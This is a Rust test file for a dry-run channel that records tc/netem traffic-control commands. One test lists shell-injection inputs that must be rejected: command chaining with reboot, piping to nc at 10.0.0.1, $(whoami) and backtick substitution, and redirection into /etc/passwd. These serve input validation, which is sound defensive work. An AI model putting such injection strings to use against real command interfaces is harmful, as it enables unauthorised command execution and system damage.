use netem_channel::{Channel, DryRun, Error};

#[test]
fn records_commands_in_order() {
    let channel = DryRun::new();

    channel.execute("sudo tc qdisc del dev eth0 root").unwrap();
    channel.execute("sudo tc qdisc add dev eth0 root netem delay 100ms").unwrap();

    assert_eq!(
        channel.commands(),
        vec!["sudo tc qdisc del dev eth0 root", "sudo tc qdisc add dev eth0 root netem delay 100ms"]
    );
    assert_eq!(channel.take().len(), 2);
    assert!(channel.commands().is_empty());
}

#[test]
fn rejected_commands_are_never_recorded() {
    let _ = tracing_subscriber::fmt::try_init();

    let channel = DryRun::new();
    for command in [
        "tc qdisc ls dev eth0 && reboot",
        "tc qdisc ls dev eth0 | nc 10.0.0.1 9",
        "tc qdisc ls dev $(whoami)",
        "tc qdisc ls dev eth0 > /etc/passwd",
        "tc qdisc ls dev `id`",
        "tc qdisc ls dev eth0 \\",
        "tc qdisc ls dev eth0 !",
    ] {
        let err = channel.execute(command).unwrap_err();
        assert!(matches!(err, Error::IllegalCharacters), "{command}");
    }

    assert!(channel.commands().is_empty());
}

fn list<C: Channel>(channel: C) -> netem_channel::Result<String> {
    channel.execute("tc qdisc ls dev eth0")
}

#[test]
fn borrowed_channels_share_the_recording() {
    let channel = DryRun::new();

    list(&channel).unwrap();

    assert_eq!(channel.commands(), vec!["tc qdisc ls dev eth0"]);
}
